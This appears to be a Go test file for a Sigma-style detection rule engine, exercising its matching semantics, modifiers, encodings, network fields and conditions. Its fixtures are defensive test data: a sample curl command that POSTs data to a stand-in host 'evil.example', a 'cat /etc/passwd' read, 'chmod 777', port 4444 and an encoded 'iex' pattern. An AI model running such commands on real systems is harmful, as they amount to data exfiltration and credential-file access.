package detect

import (
	"fmt"
	"strings"
	"testing"
	"time"

	"github.com/google/go-cmp/cmp"

	"github.com/apss-sensor/apss/shared/event"
	"github.com/apss-sensor/apss/shared/event/eventtest"
)

// rule wraps a detection section in a process_creation rule.
func rule(id, detection string) string {
	return "title: " + id + "\nid: " + id + "\nlogsource: {category: process_creation}\ndetection:\n" + indent(detection)
}

func indent(s string) string {
	return "  " + strings.ReplaceAll(strings.TrimSpace(s), "\n", "\n  ") + "\n"
}

// compile makes a set of documents that have no faults.
func compile(tb testing.TB, o Options, docs ...string) *Set {
	tb.Helper()
	rules, errs := Parse("test.yml", []byte(strings.Join(docs, "---\n")))
	set, more := Compile(rules, o)
	for _, err := range append(errs, more...) {
		tb.Fatal(err)
	}
	return set
}

// ids matches e and returns the ids of what it matches.
func ids(set *Set, e *event.Event) []string {
	var out []string
	for _, m := range set.NewMatcher().Match(e, nil) {
		out = append(out, m.Rule.ID)
	}
	return out
}

// exec is a service's child, outside of pods.
func exec(exe, cmdline string) *event.Event {
	e := eventtest.Exec()
	e.Timestamp = time.Date(2026, 11, 22, 10, 30, 0, 0, time.UTC)
	e.PodName, e.PodNamespace, e.Workload, e.Container, e.Rules = "", "", "", nil, nil
	e.Metadata = map[string]any{"score": 7.5, "labels": []any{"blue", "Green"}, "time": "2026-01-02T03:04:05Z", "deep": map[string]any{"er": "x"}}
	p := e.Process
	p.PID, p.Exe, p.Cmdline, p.Args, p.Cwd = 7, exe, cmdline, strings.Fields(cmdline), ""
	p.Parent = &event.Ancestor{PID: 1, Exe: "/usr/sbin/nginx"}
	p.Ancestors = []event.Ancestor{{PID: 0, Exe: "/sbin/init"}, {PID: 0, Exe: "/pause"}}
	return e
}

func TestSemantics(t *testing.T) {
	base := exec("/usr/bin/Curl", `curl -X POST 'https://evil.example/a*b?c' \x --data Straße aGVsbG8gd29ybGQ= K`)
	tests := []struct {
		name, selection string
		want            bool
	}{
		{"case is ignored", "Image: /USR/bin/curl", true},
		{"cased", "Image|cased: /usr/bin/curl", false},
		{"cased in the same case", "Image|cased: /usr/bin/Curl", true},
		{"cased substring", "Image|contains|cased: Cu", true},
		{"folding is not only ASCII's", "CommandLine|contains: STRAßE", true},
		{"simple folding keeps lengths", "CommandLine|contains: STRASSE", false},
		{"the Kelvin sign is a k", "CommandLine|endswith: ' k'", true},
		{"star", "Image: /usr/*rl", true},
		{"star may be nothing", "Image: '*/usr/bin/curl*'", true},
		{"question mark is one character", "Image: /usr/bin/c?rl", true},
		{"question mark is not none", "Image: /usr/bin/curl?", false},
		{"question mark is one rune", "CommandLine|contains: 'stra?e'", true},
		{"escaped star", `CommandLine|contains: 'a\*b'`, true},
		{"escaped star is no star", `CommandLine|contains: 'ev\*l'`, false},
		{"escaped question mark", `CommandLine|contains: '\?c'`, true},
		{"single backslash", `CommandLine|contains: ' \x '`, true},
		{"double backslash is one", `CommandLine|contains: ' \\x '`, true},
		{"four backslashes are two", `CommandLine|contains: '\\\\x'`, false},
		{"backslash and wildcard", `CommandLine|contains: '\\*data'`, true},
		{"list is or", "Image: [nope, '*curl']", true},
		{"all is and", "CommandLine|contains|all: [POST, evil]", true},
		{"all fails with one", "CommandLine|contains|all: [POST, good]", false},
		{"map is and", "{Image|endswith: curl, User: nobody}", false},
		{"list of maps is or", "[{Image|endswith: curl, User: nobody}, {User: ROOT}]", true},
		{"keywords", "[nope, EVIL.example]", true},
		{"keyword with a wildcard", "['post*evil']", true},
		{"keywords miss ids", "[process_exec]", false},
		{"keywords all", "{'|all': [post, nginx]}", true},
		{"keywords all fail", "{'|all': [post, apache]}", false},
		{"keywords re", "{'|re': 'P.ST'}", true},
		{"keyword in metadata", "[green]", true},
		{"number as text", "ProcessId: '7'", true},
		{"number", "ProcessId: 7", true},
		{"number with a wildcard", "ProcessId: '?'", true},
		{"number contains", "ProcessId|contains: 7", true},
		{"zero exists", "LogonId: 0", true},
		{"unknown id has no value", "process.login_uid: null", true},
		{"unknown id is not its number", "process.login_uid: 4294967295", false},
		{"null", "CurrentDirectory: null", true},
		{"null of what is there", "Image: null", false},
		{"not null", "Image|neq: null", true},
		{"empty", "CurrentDirectory: ''", true},
		{"empty of what is there", "Image: ''", false},
		{"star is not empty", "CurrentDirectory: '*'", false},
		{"star is something", "Image: '*'", true},
		{"contains nothing is something", "Image|contains: ''", true},
		{"exists", "Image|exists: true", true},
		{"exists not", "CurrentDirectory|exists: false", true},
		{"exists false of what is there", "Image|exists: false", false},
		{"re is a search and minds case", "Image|re: 'bin/C.rl$'", true},
		{"re case", "Image|re: 'bin/c.rl$'", false},
		{"re i", "Image|re|i: 'bin/c.rl$'", true},
		{"re of nothing", "CurrentDirectory|re: '.*'", false},
		{"lt", "ProcessId|lt: 8", true},
		{"lt itself", "ProcessId|lt: 7", false},
		{"lte", "ProcessId|lte: 7", true},
		{"gt", "ProcessId|gt: 6.5", true},
		{"gte", "ProcessId|gte: 8", false},
		{"gt of a fraction", "metadata.score|gt: 7", true},
		{"gt of text", "Image|gt: 0", false},
		{"fraction", "metadata.score: 7.5", true},
		{"neq", "Image|neq: /bin/sh", true},
		{"neq list is none of", "Image|neq: ['/bin/sh', '*curl']", false},
		{"neq of nothing", "CurrentDirectory|neq: /", true},
		{"fieldref", "Image|fieldref: ParentImage", false},
		{"fieldref contains", "CommandLine|fieldref|contains: process.args.0", true},
		{"fieldref startswith", "CommandLine|fieldref|startswith: process.name", true},
		{"fieldref cased", "CommandLine|cased|startswith|fieldref: process.name", false},
		{"fieldref endswith", "Image|fieldref|endswith: process.args.0", true},
		{"fieldref neq", "Image|fieldref|neq: ParentImage", true},
		{"base64", "CommandLine|base64|contains: 'hello world'", true},
		{"base64offset", "CommandLine|base64offset|contains: 'lo wor'", true},
		{"base64offset misses", "CommandLine|base64offset|contains: 'lo war'", false},
		{"windash", "CommandLine|windash|contains: ' /X '", true},
		{"windash leaves paths", "CommandLine|windash|contains: 'example-a'", false},
		{"expand", "User|expand: '%admins%'", true},
		{"expand among text", "Image|expand: '/usr/bin/%tools%'", true},
		{"expand escaped", `User|expand: '\%admins%'`, false},
		{"placeholder without expand", "User: '%admins%'", false},
		{"list field", "process.ancestors.exe: /pause", true},
		{"list field all", "process.ancestors.exe|all: [/pause, /sbin/init]", true},
		{"list field negated is none", "process.ancestors.exe|neq: /pause", false},
		{"args", "process.args.1: -X", true},
		{"args too far", "process.args.99: null", true},
		{"metadata list", "metadata.labels: green", true},
		{"metadata path", "metadata.deep.er: X", true},
		{"metadata absent", "metadata.none: null", true},
		{"hour", "timestamp|hour: 10", true},
		{"hour gte", "UtcTime|hour|gte: 11", false},
		{"minute", "timestamp|minute: 30", true},
		{"week", "timestamp|week: 47", true},
		{"year of metadata", "metadata.time|year: 2026", true},
		{"bool", "process.exe_deleted: false", true},
		{"bool as text", "process.exe_deleted: 'FALSE'", true},
		{"no sensor", "IntegrityLevel: High", false},
		{"no sensor is null", "IntegrityLevel: null", true},
	}
	o := Options{Placeholders: map[string][]string{"admins": {"toor", "ro*"}, "tools": {"wget", "curl"}}}
	for _, test := range tests {
		t.Run(test.name, func(t *testing.T) {
			doc := rule("r", "s: "+test.selection+"\ncondition: s")
			if !strings.HasPrefix(test.selection, "{") && !strings.HasPrefix(test.selection, "[") {
				doc = rule("r", "s:\n  "+test.selection+"\ncondition: s")
			}
			if got := len(ids(compile(t, o, doc), base)) > 0; got != test.want {
				t.Errorf("%s: got %v want %v", test.selection, got, test.want)
			}
		})
	}
}

func TestNetworkFields(t *testing.T) {
	tests := []struct {
		selection string
		event     event.Network
		want      bool
	}{
		{"DestinationIp|cidr: 10.0.0.0/8", event.Network{DstIP: "10.9.8.7"}, true},
		{"DestinationIp|cidr: 10.0.0.0/8", event.Network{DstIP: "11.0.0.1"}, false},
		{"DestinationIp|cidr: 10.1.2.3/8", event.Network{DstIP: "10.9.8.7"}, true},
		{"DestinationIp|cidr: 10.0.0.0/8", event.Network{DstIP: "::ffff:10.1.1.1"}, true},
		{"DestinationIp|cidr: '::ffff:10.0.0.0/104'", event.Network{DstIP: "10.1.1.1"}, true},
		{"DestinationIp|cidr: fc00::/7", event.Network{DstIP: "fd00::1"}, true},
		{"DestinationIp|cidr: fc00::/7", event.Network{DstIP: "2001:db8::1"}, false},
		{"DestinationIp|cidr: ['fe80::/10', '10.0.0.0/8']", event.Network{DstIP: "fe80::1%eth0"}, true},
		{"DestinationIp|cidr: 0.0.0.0/0", event.Network{}, false},
		{"DestinationPort: 4444", event.Network{DstPort: 4444}, true},
		{"DestinationPort|lt: 1024", event.Network{DstPort: 0}, false},
		{"Initiated: 'true'", event.Network{Direction: "outbound"}, true},
		{"Initiated: true", event.Network{Direction: "inbound"}, false},
		{"network.is_external: true", event.Network{IsExternal: true}, true},
		{"network.bytes_sent|gte: 9223372036854775807", event.Network{BytesSent: 1<<63 - 1}, true},
		{"network.bytes_sent|gte: 9223372036854775807", event.Network{BytesSent: 1<<63 - 2}, false},
		{"network.bytes_sent|gt: 1", event.Network{BytesSent: 1 << 63}, true},
		{"DestinationHostname: x", event.Network{DstIP: "10.0.0.1"}, false},
	}
	for _, test := range tests {
		doc := "title: r\nlogsource: {category: network_connection, product: linux}\ndetection:\n  s: {" + test.selection + "}\n  condition: s\n"
		e := eventtest.Connect()
		e.Network = &test.event
		if got := len(ids(compile(t, Options{}, doc), e)) > 0; got != test.want {
			t.Errorf("%s of %+v: got %v want %v", test.selection, test.event, got, test.want)
		}
	}
}

func TestProgramNames(t *testing.T) {
	tests := []struct {
		exe  string
		args []string
		want string
	}{
		{"/usr/bin/bash", []string{"sshd"}, "bash"},
		{"/bin/busybox", []string{"sh", "-c", "x"}, "sh"},
		{"/bin/busybox", []string{"/bin/busybox", "wget"}, "wget"},
		{"/bin/busybox", []string{"busybox"}, "busybox"},
		{"/bin/busybox", []string{"busybox", "--list"}, "busybox"},
		{"/bin/busybox", nil, "busybox"},
		{"/usr/bin/coreutils", []string{"/usr/bin/cat", "/etc/passwd"}, "cat"},
		{"", []string{"-bash"}, "bash"},
		{"", []string{"nginx: worker process"}, "nginx"},
		{"", []string{"/usr/bin/python3", "app.py"}, "python3"},
		{"", nil, ""},
		{"", []string{""}, ""},
		{"/memfd:x", nil, "memfd:x"},
	}
	for _, test := range tests {
		cmdline := strings.Join(test.args, " ")
		for _, field := range []string{"process.name", "process.parent.name", "process.ancestors.name"} {
			e := eventtest.Exec()
			e.Process.Exe, e.Process.Args = test.exe, test.args
			e.Process.Parent = &event.Ancestor{Exe: test.exe, Cmdline: cmdline}
			e.Process.Ancestors = []event.Ancestor{{Exe: test.exe, Cmdline: cmdline}}
			f, _ := fieldNamed(field)
			var v values
			f.load(e, &v)
			if got := strings.Join(v.texts, " "); got != test.want {
				t.Errorf("%s of %q %q: got %q want %q", field, test.exe, test.args, got, test.want)
			}
		}
	}
}

func TestUTF16(t *testing.T) {
	tests := []struct{ modifiers, cmdline string }{
		{"wide|base64offset|contains", "powershell aQBlAHgA"},
		{"utf16le|base64|contains", "x aQBlAHgA"},
		{"utf16be|base64|contains", "x AGkAZQB4"},
		{"utf16|base64|contains", "x //5pAGUAeAA="},
		{"wide|contains", "x i\x00e\x00x\x00"},
		{"utf16|startswith", "\xff\xfei\x00e\x00x\x00 x"},
	}
	for _, test := range tests {
		set := compile(t, Options{}, rule("r", "s: {CommandLine|"+test.modifiers+": iex}\ncondition: s"))
		if got := ids(set, exec("/x", test.cmdline)); len(got) != 1 {
			t.Errorf("%s does not find %q", test.modifiers, test.cmdline)
		}
		if got := ids(set, exec("/x", strings.ToUpper(test.cmdline[:1])+"other")); len(got) != 0 {
			t.Errorf("%s finds what is not there", test.modifiers)
		}
	}
}

// Sensors hand on the bytes they find, UTF-8 or not.
func TestInvalidUTF8(t *testing.T) {
	tests := []struct {
		selection, cmdline string
		want               bool
	}{
		{`CommandLine|re: '^\x{FFFD}$'`, "\xff", true},
		{`CommandLine|re: "\uFFFD"`, "x\xffy", true},
		{`CommandLine|contains: "\uFFFD"`, "x\xffy", false},
		{"CommandLine: 'x?y'", "x\xffy", true},
		{"CommandLine: 'x?y'", "x\xff\xfey", false},
		{"CommandLine|contains: 'Y'", "x\xffy", true},
		{"CommandLine|wide|contains: ©", "é\x00", false}, // C3 A9 00 has the bytes A9 00, but not as characters
		{"CommandLine|wide|contains: ©", "e\xa9\x00", true},
	}
	for _, test := range tests {
		set := compile(t, Options{}, rule("r", "s:\n  "+test.selection+"\ncondition: s"))
		if got := len(ids(set, exec("/x", test.cmdline))) > 0; got != test.want {
			t.Errorf("%s of %q: got %v want %v", test.selection, test.cmdline, got, test.want)
		}
	}
}

func TestConditions(t *testing.T) {
	tests := []struct {
		condition string
		true      string // the identifiers among a b c _d that hold
		want      bool
	}{
		{"a", "a", true},
		{"not a", "a", false},
		{"not not a", "a", true},
		{"a or b and c", "a", true},
		{"(a or b) and c", "a", false},
		{"not a or b", "b", true},
		{"not (a or b)", "c", true},
		{"a AND NOT b", "a", true},
		{"1 of them", "_d", false},
		{"1 of them", "c", true},
		{"any of them", "c", true},
		{"all of them", "abc", true},
		{"all of them", "ab", false},
		{"1 of a*", "a", true},
		{"all of *", "abc", false},
		{"all of *", "abcd", true},
		{"2 of them", "ac", true},
		{"2 of them", "c", false},
		{"3 of *", "bcd", true},
		{"3 of *", "bc", false},
		{"a and not 1 of _*", "a", true},
		{"a and not 1 of _*", "ad", false},
		{"[a and b, c]", "c", true},
		{"[a and b, c]", "b", false},
	}
	for _, test := range tests {
		set := compile(t, Options{}, rule("r", `
a: {CommandLine|contains: a}
b: {CommandLine|contains: b}
c: {CommandLine|contains: c}
_d: {CommandLine|contains: d}
condition: `+test.condition))
		if got := len(ids(set, exec("/x", "-"+test.true))) > 0; got != test.want {
			t.Errorf("%s with %s: got %v want %v", test.condition, test.true, got, test.want)
		}
	}
}

func TestAuditd(t *testing.T) {
	doc := func(selection string) string {
		return "title: r\nlogsource: {product: linux, service: auditd}\ndetection:\n  s: " + selection + "\n  condition: s\n"
	}
	touch := eventtest.FileModify()
	touch.Type, touch.File.Path = event.FileCreate, "/etc/audit/x"
	tests := []struct {
		selection string
		event     *event.Event
		want      bool
	}{
		{"{type: EXECVE, a0: chmod, a1: 777}", exec("/bin/chmod", "chmod 777 /x"), true},
		{"{type: execve, a1|startswith: '7'}", exec("/bin/chmod", "chmod 777 /x"), true},
		{"{type: PATH, a1: 777}", exec("/bin/chmod", "chmod 777 /x"), false},
		{"{type: SYSCALL, SYSCALL: execve, comm: chmod, euid: 0}", exec("/bin/chmod", "chmod 777 /x"), true},
		{"{type: SYSCALL, SYSCALL: mknod}", exec("/bin/chmod", "chmod 777 /x"), false},
		{"{type: SYSCALL, key: k}", exec("/bin/chmod", "chmod 777 /x"), false},
		{"{type: PATH, name: '/etc/audit/*', nametype: CREATE}", touch, true},
		{"{type: PATH, name: '/etc/audit/*', nametype: DELETE}", touch, false},
		{"{type: EXECVE}", touch, false},
		{"['777 /x']", exec("/bin/chmod", "chmod 777 /x"), true},
	}
	for _, test := range tests {
		if got := len(ids(compile(t, Options{}, doc(test.selection)), test.event)) > 0; got != test.want {
			t.Errorf("%s: got %v want %v", test.selection, got, test.want)
		}
	}
}

func TestMatchHasGroup(t *testing.T) {
	set := compile(t, Options{}, rule("r", "s: {User: root}\ncondition: s")+
		"apss: {group-by: [process.exe, ProcessId, CurrentDirectory, process.ancestors.exe], actions: [Look]}\nlevel: high\n")
	got := set.NewMatcher().Match(exec("/x", "y"), nil)
	if len(got) != 1 {
		t.Fatalf("got %d matches want 1", len(got))
	}
	if diff := cmp.Diff([]string{"/x", "7", "", "/sbin/init"}, got[0].Group); diff != "" {
		t.Errorf("group (-want +got):\n%s", diff)
	}
	if r := got[0].Rule; r.Severity != event.High || len(r.Actions) != 1 {
		t.Errorf("got severity %v, actions %q", r.Severity, r.Actions)
	}
}

func TestMatchDoesNotAllocate(t *testing.T) {
	var docs []string
	for i := range 50 {
		docs = append(docs, rule(fmt.Sprint("r", i), fmt.Sprintf("s: {Image|endswith: /x%d, CommandLine|contains: [y%d, 'Ä?%d'], ProcessId|gt: 3}\nk: [zzz%d]\ncondition: 1 of *", i, i, i, i)))
	}
	m := compile(t, Options{}, docs...).NewMatcher()
	e := exec("/usr/bin/X", "Some COMMAND with Ä and ß in it")
	m.Match(e, nil)
	if n := testing.AllocsPerRun(100, func() {
		if len(m.Match(e, nil)) != 0 {
			t.Error("the event matches")
		}
	}); n != 0 {
		t.Errorf("got %v allocations want 0", n)
	}
}
